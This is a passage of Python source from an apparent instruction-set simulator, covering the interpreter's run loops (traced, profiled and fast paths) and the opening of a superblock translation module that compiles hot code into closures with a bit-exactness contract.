            counters["load_instructions"] += 1
            address = (regs[rs1] + imm) & MASK32
            value = self.memory.load_byte(address)
            self._charge_data_access(address, False)
            state.write_reg(rd, value)
        elif op == _SW:
            counters["store_instructions"] += 1
            address = (regs[rs1] + imm) & MASK32
            self.memory.store_word(address, regs[rs2])
            self._charge_data_access(address, True)
        elif op == _SB:
            counters["store_instructions"] += 1
            address = (regs[rs1] + imm) & MASK32
            self.memory.store_byte(address, regs[rs2])
            self._charge_data_access(address, True)
        elif op == _PUSH:
            counters["stack_instructions"] += 1
            self._push_word(regs[rs1])
        elif op == _POP:
            counters["stack_instructions"] += 1
            state.write_reg(rd, self._pop_word())
        elif _BEQ <= op <= _BGEU:
            counters["branch_instructions"] += 1
            counters["cond_branch_instructions"] += 1
            taken = _branch_taken(op, regs[rs1], regs[rs2])
            predicted = predictor.predict_conditional(pc)
            mispredicted = predictor.resolve_conditional(pc, predicted, taken)
            if taken:
                counters["branches_taken"] += 1
                next_pc = (pc + imm) & MASK32
            if mispredicted:
                wrong_path = (
                    (pc + imm) & MASK32 if predicted
                    else (pc + INSTRUCTION_SIZE) & MASK32
                )
                self._mispredict(wrong_path)
        elif op == _JMP:
            counters["branch_instructions"] += 1
            next_pc = (pc + imm) & MASK32
        elif op == _JMPR:
            counters["branch_instructions"] += 1
            counters["indirect_jump_instructions"] += 1
            target = (regs[rs1] + imm) & MASK32
            predicted = predictor.predict_indirect(pc)
            mispredicted = predictor.resolve_indirect(pc, predicted, target)
            if predicted is None:
                self.cycles += config.btb_miss_penalty
            elif mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _CALL:
            counters["branch_instructions"] += 1
            counters["call_instructions"] += 1
            return_address = next_pc
            self._push_word(return_address)
            predictor.on_call(return_address)
            if self.shadow_stack is not None:
                self.shadow_stack.on_call(return_address)
            next_pc = (pc + imm) & MASK32
        elif op == _CALLR:
            counters["branch_instructions"] += 1
            counters["call_instructions"] += 1
            counters["indirect_jump_instructions"] += 1
            target = (regs[rs1] + imm) & MASK32
            predicted = predictor.predict_indirect(pc)
            mispredicted = predictor.resolve_indirect(pc, predicted, target)
            return_address = next_pc
            self._push_word(return_address)
            predictor.on_call(return_address)
            if self.shadow_stack is not None:
                self.shadow_stack.on_call(return_address)
            if predicted is None:
                self.cycles += config.btb_miss_penalty
            elif mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _RET:
            counters["branch_instructions"] += 1
            counters["ret_instructions"] += 1
            target = self._pop_word()
            if self.shadow_stack is not None:
                try:
                    self.shadow_stack.on_return(target)
                except ShadowStackViolation:
                    if self._tr_cpu is not None:
                        self._tr_cpu.event("cpu.shadow_divergence",
                                           pc=pc, target=target)
                    raise
            predicted = predictor.predict_return()
            mispredicted = predictor.resolve_return(predicted, target)
            if mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _CLFLUSH:
            counters["clflush_instructions"] += 1
            if self.config.clflush_privileged and not self.kernel_mode:
                raise PrivilegeFault(
                    "clflush is disabled for non-privileged code "
                    "(countermeasure active)"
                )
            address = (regs[rs1] + imm) & MASK32
            self.caches.flush_line(address)
            if self.memory.executable_at(address):
                self._flush_code_line(address)
            self.cycles += config.clflush_latency
        elif op == _MFENCE:
            counters["mfence_instructions"] += 1
            self.cycles += config.fence_latency
            counters["fence_stall_cycles"] += int(config.fence_latency)
        elif op == _RDCYCLE:
            counters["alu_instructions"] += 1
            state.write_reg(rd, int(self.cycles) & MASK32)
        elif op == _RDINSTRET:
            counters["alu_instructions"] += 1
            state.write_reg(rd, counters["instructions"] & MASK32)
        elif op == _SYSCALL:
            counters["syscall_instructions"] += 1
            self.cycles += config.syscall_latency
            if self.syscall_handler is None:
                raise CpuFault(f"syscall at {pc:#010x} with no handler")
            state.pc = next_pc  # handlers (execve) may overwrite this
            self.syscall_handler(self)
            return not state.halted
        elif op == _NOP:
            pass
        elif op == _HALT:
            state.halted = True
            return False
        else:  # pragma: no cover - every opcode is handled above
            raise CpuFault(f"unhandled opcode {op:#04x} at {pc:#010x}")

        state.pc = next_pc
        return True

    #: How many instructions retire between watchdog charges; coarse
    #: enough to keep the interpreter loop hot, fine enough that a
    #: runaway chain is caught within one chunk of its budget.
    WATCHDOG_STRIDE = 1024

    def _run_traced(self, max_instructions=None):
        """The step()-driven run loop (used whenever tracing is on).

        Trace events sample ``self.cycles`` when they are emitted, so a
        traced run must keep the architectural state live in the object
        after every instruction — which is exactly what step() does.
        """
        executed = 0
        stride = self.WATCHDOG_STRIDE
        watchdog = self.watchdog
        while not self.state.halted:
            if max_instructions is not None and executed >= max_instructions:
                break
            self.step()
            executed += 1
            if watchdog is not None and executed % stride == 0:
                watchdog.charge(stride)
        if watchdog is not None and executed % stride:
            watchdog.charge(executed % stride)
        return executed

    def _run_profiled(self, max_instructions=None):
        """The step()-driven run loop with per-instruction attribution.

        Like :meth:`_run_traced`, this keeps architectural state live in
        the object after every instruction — run ≡ step bit-exactness
        means profiling observes the run without perturbing it.  Around
        each step() we snapshot the virtual clock, the memory-stall and
        mispredict-penalty counters, the decode cache and the tracer's
        emission ordinal; the deltas feed the ambient profiler's
        subsystem buckets, opcode table and basic-block runs.
        """
        prof = self._prof
        state = self.state
        counters = self.pmu.counters
        dcache = self._decode_cache
        tracer = self._tracer
        size = INSTRUCTION_SIZE
        stride = self.WATCHDOG_STRIDE
        watchdog = self.watchdog
        # Under the sb engine, translation still happens (and is timed
        # into the ``translate`` bucket) so its cost is attributed
        # honestly — but the compiled closures are never *executed*
        # here: profiling observes the run step by step.  Translation
        # decisions are heat-count driven, hence deterministic.
        sb = sb_blocks = sb_heat = sb_threshold = None
        if self._engine == "sb":
            sb = self._sb
            if sb is None:
                sb = self._sb = SuperblockEngine(self)
            sb_blocks = sb.blocks
            sb_heat = sb.heat
            sb_threshold = sb.HOT_THRESHOLD
        executed = 0
        blk_start = -1
        blk_instr = 0
        blk_cycles = 0.0
        prev_pc = -1
        try:
            while not state.halted:
                if (max_instructions is not None
                        and executed >= max_instructions):
                    break
                pc = state.pc
                entry = dcache.get(pc)
                missed = entry is None
                if sb is not None and sb_blocks.get(pc) is None:
                    heat = sb_heat.get(pc, 0) + 1
                    if heat >= sb_threshold:
                        wall0 = perf_counter()
                        sb.translate(pc)
                        prof.translation(perf_counter() - wall0)
                    else:
                        sb_heat[pc] = heat
                cycles0 = self.cycles
                mem0 = counters["memory_stall_cycles"]
                br0 = counters["mispredict_penalty_cycles"]
                seq0 = tracer._seq if tracer is not None else 0
                wall0 = perf_counter()
                self.step()
                wall = perf_counter() - wall0
                if entry is None:
                    # decoded during the step (and still cached unless
                    # an execve flushed it mid-instruction)
                    entry = dcache.get(pc)
                op = entry[0] if entry is not None else -1
                delta = self.cycles - cycles0
                prof.instruction(
                    op, delta,
                    counters["memory_stall_cycles"] - mem0,
                    counters["mispredict_penalty_cycles"] - br0,
                    missed, wall,
                    (tracer._seq - seq0) if tracer is not None else 0,
                )
                if blk_start < 0:
                    blk_start = pc
                elif pc != (prev_pc + size) & MASK32:
                    prof.block(blk_start, prev_pc, blk_instr, blk_cycles)
                    blk_start = pc
                    blk_instr = 0
                    blk_cycles = 0.0
                blk_instr += 1
                blk_cycles += delta
                prev_pc = pc
                executed += 1
                if watchdog is not None and executed % stride == 0:
                    watchdog.charge(stride)
        finally:
            if blk_start >= 0 and blk_instr:
                prof.block(blk_start, prev_pc, blk_instr, blk_cycles)
        if watchdog is not None and executed % stride:
            watchdog.charge(executed % stride)
        return executed

    def run(self, max_instructions=None):
        """Run until halt (or *max_instructions*); returns retired count.

        When ``self.watchdog`` is set, the retired count is charged to it
        in :data:`WATCHDOG_STRIDE` chunks; an exhausted budget raises
        :class:`~repro.errors.BudgetExceededError` out of the loop — this
        is what turns a never-halting injected chain into a typed error
        instead of a hang.

        Untraced runs (the default) execute in a loop that keeps the
        hot interpreter state — pc, cycle count, fetch locality, the
        register file — in locals, and dispatches on the decode cache's
        int tuples.  All observable state (``self.cycles``,
        ``state.pc``, PMU counters, caches, TLBs) is synchronised on
        every path that leaves the loop: normal exit, faults, and
        around every syscall (whose handler may remap the address space
        and *replace* ``state.regs``, so the loop re-reads them after).
        """
        if self._prof is not None:
            return self._run_profiled(max_instructions)
        if self._step_trace:
            return self._run_traced(max_instructions)
        if self._engine == "step":
            # Forced step engine: the step()-driven loop, untraced.
            return self._run_traced(max_instructions)
        if self._engine == "sb":
            sb = self._sb
            if sb is None:
                sb = self._sb = SuperblockEngine(self)
            # Live references: flush() clears these dicts in place, so
            # an invalidation fired from inside a closure (SMC) is
            # visible to this very loop immediately.
            sb_blocks = sb.blocks
            sb_heat = sb.heat
            sb_translate = sb.translate
            sb_threshold = sb.HOT_THRESHOLD
            sb_wp = sb.wp
        else:
            sb_blocks = None
            sb_heat = sb_translate = sb_threshold = sb_wp = None

        state = self.state
        config = self.config
        counters = self.pmu.counters
        predictor = self.predictor
        memory = self.memory
        caches = self.caches
        dcache_get = self._decode_cache.get
        load_word = memory.load_word
        load_byte = memory.load_byte
        store_word = memory.store_word
        store_byte = memory.store_byte
        dtlb_access = self.dtlb.access
        itlb_access = self.itlb.access
        icache_fast = caches.instruction_access_fast
        data_fast = caches.data_access_fast
        predict_conditional = predictor.predict_conditional
        resolve_conditional = predictor.resolve_conditional
        predict_indirect = predictor.predict_indirect
        resolve_indirect = predictor.resolve_indirect
        on_call = predictor.on_call
        shadow = self.shadow_stack
        base_cost = self._base_cost
        l1_latency = self._l1_latency
        mul_extra = config.mul_extra
        div_extra = config.div_extra
        btb_miss_penalty = config.btb_miss_penalty
        fence_latency = config.fence_latency
        fence_stall = int(config.fence_latency)
        clflush_latency = config.clflush_latency
        syscall_latency = config.syscall_latency
        clflush_privileged = config.clflush_privileged
        size = INSTRUCTION_SIZE
        watchdog = self.watchdog
        stride = self.WATCHDOG_STRIDE
        limit = -1 if max_instructions is None else max_instructions

        regs = state.regs
        pc = state.pc
        cycles = self.cycles
        last_iline = self._last_iline
        last_ipage = self._last_ipage
        halted = state.halted
        executed = 0

        try:
            while not halted:
                if executed == limit:
                    break

                if sb_blocks is not None:
                    block = sb_blocks.get(pc)
                    if block is None:
                        heat = sb_heat.get(pc, 0) + 1
                        if heat >= sb_threshold:
                            block = sb_translate(pc)
                        else:
                            sb_heat[pc] = heat
                    if block:
                        fn, length, _exit = block
                        # Enter only when the whole block fits before
                        # the next pause/watchdog boundary — blocks
                        # never straddle a charge stride or a chunked
                        # run()'s instruction limit; otherwise fall
                        # through and single-step this instruction.
                        if ((limit < 0 or executed + length <= limit)
                                and (watchdog is None
                                     or executed % stride + length
                                     <= stride)):
                            try:
                                (pc, done, cycles, last_iline,
                                 last_ipage) = fn(regs, counters, cycles,
                                                  last_iline, last_ipage)
                            except BaseException:
                                # The closure synced the object on its
                                # fault path; re-read so the outer
                                # finally writes those same values.
                                pc = state.pc
                                cycles = self.cycles
                                last_iline = self._last_iline
                                last_ipage = self._last_ipage
                                raise
                            executed += done
                            wp = sb_wp[0]
                            if wp is not None:
                                # A compiled side exit resolved a
                                # mispredicted branch; the closure has
                                # fully committed, so the speculative
                                # wrong-path walk sees exactly the
                                # machine the fast loop would have
                                # mid-iteration.
                                sb_wp[0] = None
                                self.cycles = cycles
                                self._mispredict(wp)
                                cycles = self.cycles
                            if (watchdog is not None
                                    and executed % stride == 0):
                                watchdog.charge(stride)
                            continue

                entry = dcache_get(pc)
                if entry is None:
                    entry = self._decode_entry(pc)
                line = pc >> 6
                if line != last_iline:
                    last_iline = line
                    extra = icache_fast(pc)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                page = pc >> 12
                if page != last_ipage:
                    last_ipage = page
                    itlb_access(pc)

                op, rd, rs1, rs2, imm = entry
                next_pc = (pc + size) & MASK32
                cycles += base_cost
                counters["instructions"] += 1

                if _ADDI <= op <= _SLTI:
                    counters["alu_instructions"] += 1
                    if op == _ADDI:
                        if rd:
                            regs[rd] = (regs[rs1] + imm) & MASK32
                    elif op == _MULI:
                        counters["mul_div_instructions"] += 1
                        cycles += mul_extra
                        if rd:
                            regs[rd] = (regs[rs1] * imm) & MASK32
                    elif rd:
                        regs[rd] = _alu_rri(op, regs[rs1], imm)
                elif _ADD <= op <= _SLTU:
                    counters["alu_instructions"] += 1
                    if op == _ADD:
                        if rd:
                            regs[rd] = (regs[rs1] + regs[rs2]) & MASK32
                    elif _MUL <= op <= _MOD:
                        counters["mul_div_instructions"] += 1
                        cycles += div_extra if op != _MUL else mul_extra
                        if rd:
                            regs[rd] = _alu_rrr(op, regs[rs1], regs[rs2])
                    elif rd:
                        regs[rd] = _alu_rrr(op, regs[rs1], regs[rs2])
                elif op == _LI:
                    counters["alu_instructions"] += 1
                    if rd:
                        regs[rd] = imm & MASK32
                elif op == _MOV:
                    counters["alu_instructions"] += 1
                    if rd:
                        regs[rd] = regs[rs1]
                elif op == _LW or op == _LB:
                    counters["load_instructions"] += 1
                    address = (regs[rs1] + imm) & MASK32
                    value = (load_word(address) if op == _LW
                             else load_byte(address))
                    dtlb_access(address)
                    extra = data_fast(address, False)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                    if rd:
                        regs[rd] = value & MASK32
                elif op == _SW or op == _SB:
                    counters["store_instructions"] += 1
                    address = (regs[rs1] + imm) & MASK32
                    if op == _SW:
                        store_word(address, regs[rs2])
                    else:
                        store_byte(address, regs[rs2])
                    dtlb_access(address)
                    extra = data_fast(address, True)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                elif _BEQ <= op <= _BGEU:
                    counters["branch_instructions"] += 1
                    counters["cond_branch_instructions"] += 1
                    a = regs[rs1]
                    b = regs[rs2]
                    if op == _BEQ:
                        taken = a == b
                    elif op == _BNE:
                        taken = a != b
                    else:
                        taken = _branch_taken(op, a, b)
                    predicted = predict_conditional(pc)
                    mispredicted = resolve_conditional(pc, predicted, taken)
                    if taken:
                        counters["branches_taken"] += 1
                        next_pc = (pc + imm) & MASK32
                    if mispredicted:
                        wrong_path = (
                            (pc + imm) & MASK32 if predicted
                            else (pc + size) & MASK32
                        )
                        self.cycles = cycles
                        self._mispredict(wrong_path)
                        cycles = self.cycles
                elif op == _JMP:
                    counters["branch_instructions"] += 1
                    next_pc = (pc + imm) & MASK32
                elif op == _JMPR:
                    counters["branch_instructions"] += 1
                    counters["indirect_jump_instructions"] += 1
                    target = (regs[rs1] + imm) & MASK32
                    predicted = predict_indirect(pc)
                    mispredicted = resolve_indirect(pc, predicted, target)
                    if predicted is None:
                        cycles += btb_miss_penalty
                    elif mispredicted:
                        self.cycles = cycles
                        self._mispredict(predicted)
                        cycles = self.cycles
                    next_pc = target
                elif op == _PUSH:
                    counters["stack_instructions"] += 1
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, regs[rs1])
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                elif op == _POP:
                    counters["stack_instructions"] += 1
                    sp = regs[13]
                    value = load_word(sp)
                    dtlb_access(sp)
                    extra = data_fast(sp, False)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                    regs[13] = (sp + 4) & MASK32
                    if rd:
                        regs[rd] = value & MASK32
                elif op == _CALL:
                    counters["branch_instructions"] += 1
                    counters["call_instructions"] += 1
                    return_address = next_pc
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, return_address)
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                    on_call(return_address)
                    if shadow is not None:
                        shadow.on_call(return_address)
                    next_pc = (pc + imm) & MASK32
                elif op == _CALLR:
                    counters["branch_instructions"] += 1
                    counters["call_instructions"] += 1
                    counters["indirect_jump_instructions"] += 1
                    target = (regs[rs1] + imm) & MASK32
                    predicted = predict_indirect(pc)
                    mispredicted = resolve_indirect(pc, predicted, target)
                    return_address = next_pc
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, return_address)
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                    on_call(return_address)
                    if shadow is not None:
                        shadow.on_call(return_address)
                    if predicted is None:
                        cycles += btb_miss_penalty
                    elif mispredicted:
                        self.cycles = cycles
                        self._mispredict(predicted)
                        cycles = self.cycles
                    next_pc = target
                elif op == _RET:
                    counters["branch_instructions"] += 1
                    counters["ret_instructions"] += 1
                    sp = regs[13]
                    target = load_word(sp)
                    dtlb_access(sp)
                    extra = data_fast(sp, False)[0] - l1_latency
                    if extra > 0:
                        cycles += extra
                        counters["memory_stall_cycles"] += extra
                    regs[13] = (sp + 4) & MASK32
                    if shadow is not None:
                        shadow.on_return(target)
                    predicted = predictor.predict_return()
                    mispredicted = predictor.resolve_return(predicted, target)
                    if mispredicted:
                        self.cycles = cycles
                        self._mispredict(predicted)
                        cycles = self.cycles
                    next_pc = target
                elif op == _CLFLUSH:
                    counters["clflush_instructions"] += 1
                    if clflush_privileged and not self.kernel_mode:
                        raise PrivilegeFault(
                            "clflush is disabled for non-privileged code "
                            "(countermeasure active)"
                        )
                    address = (regs[rs1] + imm) & MASK32
                    caches.flush_line(address)
                    if memory.executable_at(address):
                        self._flush_code_line(address)
                    cycles += clflush_latency
                elif op == _MFENCE:
                    counters["mfence_instructions"] += 1
                    cycles += fence_latency
                    counters["fence_stall_cycles"] += fence_stall
                elif op == _RDCYCLE:
                    counters["alu_instructions"] += 1
                    if rd:
                        regs[rd] = int(cycles) & MASK32
                elif op == _RDINSTRET:
                    counters["alu_instructions"] += 1
                    if rd:
                        regs[rd] = counters["instructions"] & MASK32
                elif op == _SYSCALL:
                    counters["syscall_instructions"] += 1
                    cycles += syscall_latency
                    handler = self.syscall_handler
                    if handler is None:
                        raise CpuFault(
                            f"syscall at {pc:#010x} with no handler"
                        )
                    # Sync the architectural state the handler sees —
                    # then reload everything it may have changed.
                    # ``execve`` remaps memory, flushes the decode/TLB
                    # state and installs a *new* regs list.
                    pc = next_pc
                    state.pc = pc
                    self.cycles = cycles
                    self._last_iline = last_iline
                    self._last_ipage = last_ipage
                    handler(self)
                    regs = state.regs
                    pc = state.pc
                    cycles = self.cycles
                    last_iline = self._last_iline
                    last_ipage = self._last_ipage
                    halted = state.halted
                    executed += 1
                    if watchdog is not None and executed % stride == 0:
                        watchdog.charge(stride)
                    continue
                elif op == _NOP:
                    pass
                elif op == _HALT:
                    state.halted = True
                    halted = True
                    next_pc = pc
                else:  # pragma: no cover - every opcode is handled above
                    raise CpuFault(f"unhandled opcode {op:#04x} at {pc:#010x}")

                pc = next_pc
                executed += 1
                if watchdog is not None and executed % stride == 0:
                    watchdog.charge(stride)
        finally:
            # Every exit path — normal, halt, budget exhaustion, CPU or
            # memory fault — leaves the object bit-identical to what the
            # step() loop would have left.
            state.pc = pc
            self.cycles = cycles
            self._last_iline = last_iline
            self._last_ipage = last_ipage

        if watchdog is not None and executed % stride:
            watchdog.charge(executed % stride)
        return executed
