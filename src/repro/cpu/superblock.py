"""Superblock translation: hot straight-line runs become closures.

The in-order core's fast loop still pays per-instruction dispatch: one
decode-cache lookup, one opcode compare chain, several dict updates.
This module removes that tax for the straight-line portions of hot
code.  When an entry PC has been dispatched :data:`SuperblockEngine.
HOT_THRESHOLD` times, the run of translatable instructions starting
there is compiled — once — into a single Python closure that executes
the whole region with every piece of hot state (registers, PMU counter
deltas, cycle count, fetch locality, the L1D hit path, the D-TLB MRU
check) held in locals, and the dispatcher thereafter executes the block
as one call.

The region is a *superblock* proper, not just a basic block:
unconditional direct jumps (``JMP``) do not end it — their constant
target is followed at translation time (the jump itself costs exactly
what the fast loop charges: one ``branch_instructions`` bump plus the
base cycle cost), so the short runs that assembly loops fracture into
``…; jmp next`` chains fuse back into one closure.  Collection stops
when a jump target (or sequential fall-through) re-enters a pc already
in the block, so a loop whose final jump returns to the entry becomes
one closure that the dispatcher re-enters through a single dict probe
per iteration.

Bit-exactness contract
----------------------
A block execution must leave the CPU in *exactly* the state the step()
loop would have: identical registers, pc, ``cycles`` float, all PMU
counters, cache/TLB contents and replacement state.  The generated
code therefore:

* performs loads/stores through the real ``Memory`` methods and the
  D-TLB/L1D inline paths replicate ``Tlb.access``'s MRU shortcut and
  ``Cache.access``'s LRU hit path *statement for statement* (anything
  else — TLB miss, L1 miss, non-LRU policy — delegates to the real
  objects, which then do their own accounting);
* batches the *constant* per-instruction cycle costs only when every
  cost sits on a dyadic (2^-20) grid, where float addition is exact and
  therefore order-insensitive; otherwise costs are emitted per
  instruction in program order;
* batches PMU counter increments (plain int adds — commutative and
  exact) into one flush per exit path.

Deoptimisation contract
-----------------------
Blocks contain no conditional control flow, no indirect jumps, no
calls/returns, no syscalls and no serialising instructions — those
*terminate* translation and stay in the dispatcher (only direct
``JMP``, whose target is a compile-time constant, is internalised).
The remaining exits mid-block are:

* **faults** (memory/alignment/protection): the closure's exception
  path flushes the counters retired so far (a compile-time table keyed
  by the faulting instruction's pc), writes back registers, and syncs
  ``state.pc``/``cycles``/fetch locality to the faulting instruction —
  exactly the state the step loop leaves — then re-raises;
* **self-modifying code**: every store is followed by a generation
  check; a store that hits an executable segment bumps the engine
  generation (via the Memory code-write listener), and the closure
  returns early with its partial progress so not a single stale
  instruction executes;
* **pause boundaries** (chunked ``run(max_instructions=…)`` calls and
  watchdog strides) never happen mid-block: the dispatcher only enters
  a block whose full length fits before the next boundary, and
  single-steps otherwise.

Invalidation rules
------------------
``flush()`` empties the block cache *in place* (the dispatcher holds
live references), clears the heat table and bumps the generation.  It
is driven by the decode-cache flush paths: ``Cpu.reset_for_exec`` (the
``execve`` remap), the Memory code-write listener (stores into
executable segments), and ``clflush`` of a line inside an executable
segment.
"""

from repro.errors import CpuFault, EncodingError, MemoryFault
from repro.isa.encoding import INSTRUCTION_SIZE, decode
from repro.isa.opcodes import Opcode

MASK32 = 0xFFFFFFFF

_NOP = int(Opcode.NOP)
_ADD = int(Opcode.ADD)
_SUB = int(Opcode.SUB)
_MUL = int(Opcode.MUL)
_DIV = int(Opcode.DIV)
_MOD = int(Opcode.MOD)
_AND = int(Opcode.AND)
_OR = int(Opcode.OR)
_XOR = int(Opcode.XOR)
_SHL = int(Opcode.SHL)
_SHR = int(Opcode.SHR)
_SRA = int(Opcode.SRA)
_SLT = int(Opcode.SLT)
_SLTU = int(Opcode.SLTU)
_ADDI = int(Opcode.ADDI)
_MULI = int(Opcode.MULI)
_ANDI = int(Opcode.ANDI)
_ORI = int(Opcode.ORI)
_XORI = int(Opcode.XORI)
_SHLI = int(Opcode.SHLI)
_SHRI = int(Opcode.SHRI)
_SRAI = int(Opcode.SRAI)
_SLTI = int(Opcode.SLTI)
_LI = int(Opcode.LI)
_MOV = int(Opcode.MOV)
_LW = int(Opcode.LW)
_LB = int(Opcode.LB)
_SW = int(Opcode.SW)
_SB = int(Opcode.SB)
_PUSH = int(Opcode.PUSH)
_POP = int(Opcode.POP)
_JMP = int(Opcode.JMP)
_BEQ = int(Opcode.BEQ)
_BNE = int(Opcode.BNE)
_BLT = int(Opcode.BLT)
_BGE = int(Opcode.BGE)
_BLTU = int(Opcode.BLTU)
_BGEU = int(Opcode.BGEU)

#: Source-text -> code-object translation cache, shared process-wide.
#: A block's generated source fully determines its code object (every
#: pc, constant and geometry parameter is baked into the text; live
#: state is rebound per-core through the closure's default arguments),
#: so cores running the same binary — fresh System instances, repeated
#: experiment sweeps, a re-run after an SMC flush that restored the
#: original bytes — reuse the compiled code and skip ``compile()``,
#: which otherwise dominates translation cost.
_CODE_CACHE = {}
_CODE_CACHE_MAX = 4096

#: Counter order used by the partial/final flush tables.
_COUNTER_NAMES = (
    "instructions", "alu_instructions", "mul_div_instructions",
    "load_instructions", "store_instructions", "stack_instructions",
    "branch_instructions", "cond_branch_instructions", "branches_taken",
)


def _trace_taken(imm):
    """Which way collection follows a conditional branch.

    Backward branches are loop backedges and overwhelmingly taken, so
    the trace continues at the target; forward branches are usually
    not taken, so it continues at the fall-through.  The rule is a
    pure function of the immediate so :meth:`SuperblockEngine._collect`
    and :class:`_Codegen` agree without passing state around.
    """
    return imm < 0


def _translatable(op):
    """Ops a block body may contain; anything else terminates it."""
    return (
        _ADD <= op <= _SLTU
        or _ADDI <= op <= _MOV
        or _LW <= op <= _POP
        or op == _NOP
    )


def _dyadic(value):
    """Exactly representable on the 2^-20 grid (so float + is exact)."""
    scaled = value * 1048576.0
    return scaled == int(scaled) and abs(value) < 1e6


def _signed_lines(dst, src, indent):
    """Statements computing ``dst`` = *src* reinterpreted as signed."""
    return [
        f"{indent}{dst} = {src} - 4294967296 "
        f"if {src} > 2147483647 else {src}"
    ]


def _flush_exit(counters, regs, exits, j, it, cycles, last_iline,
                last_ipage, vals, n_stall=0, n_tlb=0, n_l1r=0, n_l1w=0,
                n_ihit=0, dtlb=None, l1stats=None, i1stats=None):
    """Out-of-line side-exit commit shared by every compiled block.

    Flushes the exit's retired-so-far counter deltas, the batched
    memory tallies, and the registers written so far, then returns the
    dispatcher tuple.  Side exits are off the hot path (the branch went
    the non-traced way, a mispredict, or an SMC deopt), so a function
    call here is cheap — and keeping the flush out of the generated
    source keeps ``compile()`` fast: an unrolled block would otherwise
    repeat ~30 flush lines for every exit of every copy, and block
    compilation time would swamp the translation win.

    *it* is the unroll iteration the exit fired on (0 for the peeled
    first copy and for non-unrolled blocks): a loop body is compiled
    once and run under ``for _it in range(1, K)``, so the exit's
    absolute retired counts are its within-copy prefix plus *it* full
    copies (``ccounts``/``kstep`` in the exit row).
    """
    counts, next_pc, k, widx, ccounts, kstep = exits[j]
    if it:
        counts = tuple(
            base + it * full for base, full in zip(counts, ccounts)
        )
        k += it * kstep
    for value, name in zip(counts, _COUNTER_NAMES):
        if value:
            counters[name] += value
    if n_stall:
        counters["memory_stall_cycles"] += n_stall
    if n_tlb:
        dtlb.hits += n_tlb
    if n_l1r or n_l1w:
        hits = n_l1r + n_l1w
        l1stats.accesses += hits
        l1stats.hits += hits
        if n_l1r:
            l1stats.read_accesses += n_l1r
        if n_l1w:
            l1stats.write_accesses += n_l1w
    if n_ihit:
        i1stats.accesses += n_ihit
        i1stats.read_accesses += n_ihit
        i1stats.hits += n_ihit
    for index, value in zip(widx, vals):
        regs[index] = value
    return next_pc, k, cycles, last_iline, last_ipage


class _Codegen:
    """Builds the closure source for one run of decoded entries.

    *entries* is a list of ``(pc, decoded)`` pairs — pcs are not
    necessarily sequential because collection follows direct jumps.
    *exit_pc* is where execution continues after the block (the
    sequential successor, or the final jump's target).
    """

    def __init__(self, cpu, engine, entry_pc, entries, copies, exit_pc):
        self.cpu = cpu
        self.engine = engine
        self.entry_pc = entry_pc
        self.entries = entries
        #: unroll factor: *entries* is ONE loop-body copy; the body is
        #: compiled once (peeled) plus a ``for _it in range(1, copies)``
        #: re-running it, so generated source — and ``compile()`` time —
        #: stays proportional to the body, not the unroll.
        self.copies = copies
        self.exit_pc = exit_pc
        config = cpu.config
        self.base_cost = cpu._base_cost
        self.mul_extra = config.mul_extra
        self.div_extra = config.div_extra
        self.l1_latency = cpu._l1_latency
        self.l1d = cpu.caches.l1d
        self.d_state = self.l1d.inline_state()
        self.inline_l1 = self.d_state is not None
        self.l1i = cpu.caches.l1i
        self.i_state = self.l1i.inline_state()
        self.inline_i = self.i_state is not None
        self.batch_cycles = all(_dyadic(cost) for cost in (
            self.base_cost, self.mul_extra, self.div_extra))
        self.lines = []
        self.pending = 0.0
        #: instructions, alu, mul_div, load, store, stack, branch
        self.counts = [0] * len(_COUNTER_NAMES)
        #: per-fault-site counter snapshots, indexed by the ``_pi``
        #: occurrence local (a pc alone is ambiguous once loop bodies
        #: are unrolled: the same pc appears once per copy, each with
        #: different retired-so-far counts).  Slot 0 covers an
        #: asynchronous exception before the first memory op.
        self.partial_list = [(0,) * len(_COUNTER_NAMES)]
        #: per-side-exit ``(counts, next_pc, k, widx, ccounts, kstep)``
        #: rows consumed by :func:`_flush_exit`; generated exits are a
        #: single call indexing into this table.
        self.exits = []
        #: True while re-emitting the body for the unroll loop: memory
        #: syncs replay occurrence indices instead of appending new
        #: partial rows, and exits write back the full write set.
        self.loop_mode = False
        self.mem_occ = 0
        #: one full copy's counter deltas, snapshotted after the peel.
        self.copy_counts = None
        self.touched = set()
        self.writes = set()
        #: registers read before their first in-block write — the only
        #: ones an ALU-only block needs to load in its prologue.
        self.need_load = set()
        #: set when a conditional branch was internalised (binds the
        #: predictor methods and the mispredict hand-off cell).
        self.has_branch = False
        #: fetch-locality state known at compile time: after the entry
        #: instruction's runtime check, ``last_iline``/``last_ipage``
        #: equal the entry's line/page as compile-time constants.
        self.cur_line = None
        self.cur_page = None
        self.has_mem = any(
            _LW <= entry[0] <= _POP for _, entry in entries
        )

    # -- small emission helpers --------------------------------------
    def emit(self, line):
        self.lines.append(line)

    def add_cycles(self, cost):
        if self.batch_cycles:
            self.pending += cost
        elif cost:
            self.emit(f"cycles += {cost!r}")

    def flush_cycles(self):
        if self.batch_cycles and self.pending:
            self.emit(f"cycles += {self.pending!r}")
            self.pending = 0.0

    def reg(self, index):
        self.touched.add(index)
        if index not in self.writes:
            self.need_load.add(index)
        return f"r{index}"

    def wreg(self, index):
        self.touched.add(index)
        self.writes.add(index)
        return f"r{index}"

    def _counter_flush_lines(self, counts, indent):
        lines = []
        for value, name in zip(counts, _COUNTER_NAMES):
            if value:
